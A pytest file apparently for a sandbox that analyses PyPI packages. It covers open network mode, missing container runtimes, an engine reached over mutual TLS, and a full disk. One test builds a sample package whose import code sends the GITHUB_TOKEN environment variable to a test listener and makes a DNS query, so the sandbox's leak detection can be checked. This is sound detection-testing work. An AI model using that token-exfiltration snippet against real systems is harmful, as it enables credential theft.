"""What a sandbox finds outside by setting, engines reached over TLS, runtimes that are not there, a full disk."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import subprocess
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from aiohttp.test_utils import TestServer
from structlog.testing import capture_logs

from actors.sandbox import SandboxSupervisor
from pumpkin.adapters.engine import Certificates, Engine, EngineError, EngineSettings, Job, Registries
from pumpkin.model.reports import Artifact
from tests.sandbox import laboratory
from tests.sandbox.registry import Registry
from tests.sandbox.samples import wheel

pytestmark = pytest.mark.timeout(120)
Serve = Callable[..., Awaitable[TestServer]]


async def test_open_a_package_reaches_this_host_and_what_leaves_is_searched(engine_settings: EngineSettings) -> None:
    heard = asyncio.get_running_loop().create_future()

    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.set_result(await reader.read())
        writer.close()

    async with Engine(engine_settings) as engine:
        network = await (await engine.docker.networks.get("bridge")).show()
    gateway = network["IPAM"]["Config"][0]["Gateway"]
    server = await asyncio.start_server(listen, gateway, 0)
    port = server.sockets[0].getsockname()[1]
    module = f"""
import os, socket
with socket.create_connection(({gateway!r}, {port}), 10) as one:
    one.sendall(b"x" * 1400 + os.environ["GITHUB_TOKEN"].encode())
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one.sendto(b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4open\\7example\\0\\0\\1\\0\\1", ({gateway!r}, 53))
"""
    actor = await laboratory.supervisor(replace(engine_settings, mode="open"), warm=0, blank={})
    assert actor.status()[0]["network"] == "open"
    async with server:
        job = Job("pypi", archive=wheel("sample", module), phases=("install", "import"))
        report = await actor.analyse(job, Artifact("pypi"))
        assert (await asyncio.wait_for(heard, 5)).startswith(b"x" * 1400 + b"ghp_")
    await laboratory.stop(actor)
    assert report.environment.network == "open"
    imported = report.phase("import")
    assert [(one["secret"], one["address"], one["port"]) for one in imported.of("leak")] == [
        ("environment token", gateway, port)
    ]
    assert [(one["name"], one["server"]) for one in imported.of("dns")] == [("open.example", gateway)]
    assert any(one.name == "capture.pcap" and b"ghp_" in one.content for one in report.attachments)


async def test_a_runtime_that_the_engine_has_not_is_said(engine_settings: EngineSettings) -> None:
    """As with gVisor set (`runsc`) where it is not installed."""
    engine = Engine(replace(engine_settings, runtime="runsc"), "tests")
    actor = SandboxSupervisor.start([engine], warm=0, blank={})._actor_weakref()
    assert actor is not None
    with pytest.raises(EngineError, match=r"no runtime runsc; it has .*runc"):
        await actor.analyse(Job("pypi", archive=wheel("sample"), total_s=20.0), Artifact("pypi"))
    assert "runsc" in actor.unavailable()
    await laboratory.stop(actor)


async def test_an_engine_that_starts_none_is_not_asked_for_ever(engine_settings: EngineSettings) -> None:
    broken = replace(engine_settings, bounds=replace(engine_settings.bounds, memory=1 << 20))
    actor = await laboratory.supervisor(broken, warm=0, blank={})
    with pytest.raises(EngineError):
        await asyncio.wait_for(actor.analyse(Job("pypi", archive=wheel("sample")), Artifact("pypi")), 60)
    await laboratory.stop(actor)


async def test_the_runtime_that_is_set_is_the_one_used(engine_settings: EngineSettings) -> None:
    async with Engine(replace(engine_settings, runtime="runc")) as engine, await engine.sandbox() as one:
        shown = await (await engine.docker.containers.get(one.id)).show()
        assert shown["HostConfig"]["Runtime"] == "runc"
        assert shown["HostConfig"]["NetworkMode"] == "none"


@contextlib.asynccontextmanager
async def distant(socket: str, folder: Path) -> AsyncIterator[tuple[str, Certificates]]:
    """The engine at `socket` as it is from another machine: over TCP, by TLS with certificates on both sides."""
    for argv in (
        ("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2", "-subj",
         "/CN=engine", "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", "key.pem", "-out", "cert.pem"),
    ):  # fmt: skip
        await asyncio.to_thread(subprocess.run, ["openssl", *argv], cwd=folder, check=True, capture_output=True)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH, cafile=str(folder / "cert.pem"))
    context.verify_mode = ssl.CERT_REQUIRED
    context.load_cert_chain(folder / "cert.pem", folder / "key.pem")

    writers: set[asyncio.StreamWriter] = set()

    async def pipe(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError):
            while data := await reader.read(1 << 16):
                writer.write(data)
                await writer.drain()
            if writer.can_write_eof():
                writer.write_eof()
            else:
                writer.close()

    async def join(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        inner_reader, inner_writer = await asyncio.open_unix_connection(socket)
        writers.update((inner_writer, writer))
        try:
            await asyncio.gather(pipe(reader, inner_writer), pipe(inner_reader, writer))
        finally:
            for one in (inner_writer, writer):
                one.transport.abort()

    own = str(folder / "cert.pem")
    client = Certificates(own, own, str(folder / "key.pem"))
    server = await asyncio.start_server(join, "127.0.0.1", 0, ssl=context)
    try:
        yield f"tcp://127.0.0.1:{server.sockets[0].getsockname()[1]}", client
    finally:
        server.close()
        for one in writers:
            one.transport.abort()
        await asyncio.sleep(0.05)


async def test_an_engine_over_tls_is_used_like_a_near_one(engine_settings: EngineSettings, tmp_path: Path) -> None:
    socket = engine_settings.address.removeprefix("unix://")
    async with distant(socket, tmp_path) as (address, certificates):
        async with Engine(replace(engine_settings, address=address)) as nobody:
            assert (await nobody.check()).problem, "without a certificate there is no answer"
        actor = await laboratory.supervisor(
            replace(engine_settings, address=address, certificates=certificates), warm=0, blank={}
        )
        report = await actor.analyse(Job("pypi", archive=wheel("sample", "VALUE = 1\n")), Artifact("pypi"))
        await laboratory.stop(actor)
    assert [phase.status for phase in report.phases] == ["completed"] * 3
    assert not report.findings


@pytest.fixture
def tiny_disk(tmp_path: Path) -> Iterator[Path]:
    """A disk of 64 kB."""
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "none", str(tmp_path)], check=True)
    yield tmp_path
    subprocess.run(["umount", str(tmp_path)], check=True)


async def test_a_full_disk_costs_the_cache_only(tiny_disk: Path) -> None:
    async with Registries({}, tiny_disk) as registries:
        with capture_logs() as said:
            for _ in range(2):
                registries.cache.put("https://files.example/large", "text/plain", bytes(1 << 20))
        assert registries.cache.get("https://files.example/large", None) is None
        assert not [one for one in tiny_disk.rglob("*") if one.is_file()], "no half of it is left"
        registries.cache.put("https://files.example/small", "text/plain", b"small")
        assert registries.cache.get("https://files.example/small", None) == ("text/plain", b"small")
    assert [one["event"] for one in said] == ["what registries answer is not kept"], "and not once a file"
    assert "No space left" in said[0]["why"]


async def test_a_whole_run_goes_well_with_a_full_disk(
    engine_settings: EngineSettings, aiohttp_server: Serve, tiny_disk: Path
) -> None:
    with contextlib.suppress(OSError), (tiny_disk / "ballast").open("wb", buffering=0) as file:
        while True:
            file.write(bytes(512))
    server = await aiohttp_server(Registry(pypi={"sample": wheel("sample", "VALUE = 1\n")}).application())
    async with Registries({"pypi": str(server.make_url("/simple"))}, tiny_disk) as registries:
        actor = await laboratory.supervisor(engine_settings, warm=0, blank={}, registries=registries)
        with capture_logs() as said:
            report = await actor.analyse(Job("pypi", "sample"), Artifact("pypi", "sample"))
        await laboratory.stop(actor)
        assert not actor.status()[0]["busy"]
    assert [phase.status for phase in report.phases] == ["completed"] * 3
    assert "what registries answer is not kept" in [one["event"] for one in said]
    assert [one.name for one in tiny_disk.rglob("*") if one.is_file()] == ["ballast"]
